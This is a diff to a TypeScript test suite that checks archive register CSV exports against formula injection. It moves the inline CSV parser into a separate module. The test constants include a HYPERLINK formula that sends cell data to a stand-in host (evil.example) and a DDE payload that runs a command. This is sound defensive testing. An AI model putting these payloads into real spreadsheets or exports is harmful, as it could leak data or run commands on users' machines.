@@ -14,40 +14,13 @@ import { call, callError, openCore } from '../support/core';
 import { tempDir } from '../support/tempDir';
 import { formFor, intakeOf, must, setUpOperator, TestClock } from '../workflow/support';
 import { closedCase, SERVED, writeArchiveSettings } from './support';
+import { parseCsv } from './csvReader';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
 const CMD = "+cmd|' /C calc'!A0";
 const SUM = '@SUM(1)';
 const ARITH = '-2+3';
 
-/** RFC 4180 reader for ";"-separated text (quoted fields, doubled quotes). */
-function parseCsv(text: string, sep = ';'): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const ch = text[i] as string;
-    if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (ch === '"') quoted = false;
-      else field += ch;
-    } else if (ch === '"') quoted = true;
-    else if (ch === sep) {
-      row.push(field);
-      field = '';
-    } else if (ch === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += ch;
-  }
-  return rows;
-}
 
 async function hostileArchive() {
   const clock = new TestClock();
@@ -73,7 +46,7 @@ describe('registers against formula injection (OWASP CSV injection)', () => {
     const { core, today } = await hostileArchive();
     const read = async (register: 'daftar_berkas' | 'daftar_isi_berkas' | 'fisik') => {
       const file = await call(core, 'registers.export', { from: today, to: today, format: 'csv', register });
-      return parseCsv(Buffer.from(file.base64, 'base64').subarray(3).toString('utf8'));
+      return parseCsv(Buffer.from(file.base64, 'base64').subarray(3).toString('utf8'), ';');
     };
     const fisik = await read('fisik');
     const row = must(fisik[1], 'physical register row');
